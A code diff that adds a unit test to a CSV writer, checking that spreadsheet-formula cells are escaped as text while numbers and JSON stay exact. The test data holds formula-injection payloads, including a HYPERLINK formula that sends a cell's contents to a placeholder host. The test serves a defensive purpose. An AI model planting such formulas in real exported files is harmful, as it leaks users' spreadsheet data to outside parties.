@@ -12,3 +12,11 @@ test("writes exactly what csv-stringify writes, and parses back to the same cell
   expect(csvText(rows)).toBe(stringify(rows));
   expect(parseCsv(csvText(rows))).toEqual(rows.map((r) => r.map((c) => c ?? "")));
 });
+
+test("a cell a spreadsheet would run as a formula is written as text; numbers and JSON stay exact", () => {
+  const risky = ['=HYPERLINK("https://x/?"&A2,"open")', "+1+1", "@SUM(A1)", "-cmd", "\tx"];
+  const kept = ["-3", "+4.5", "12", '{"note":"=1+1"}', "a=b"];
+  const parsed = parseCsv(csvText([risky, kept]));
+  expect(parsed[0]).toEqual(risky.map((cell) => `'${cell}`));
+  expect(parsed[1]).toEqual(kept);
+});
